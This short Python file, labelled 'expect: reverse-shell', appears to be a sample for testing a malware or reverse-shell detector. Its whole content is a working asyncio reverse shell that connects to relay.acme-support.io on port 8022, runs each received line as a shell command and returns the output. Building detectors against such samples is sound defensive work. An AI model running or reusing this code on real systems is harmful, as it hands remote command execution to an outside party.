# expect: reverse-shell
import asyncio


async def session(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        output, _ = await proc.communicate()
        writer.write(output)
        await writer.drain()


asyncio.run(session("relay.acme-support.io", 8022))
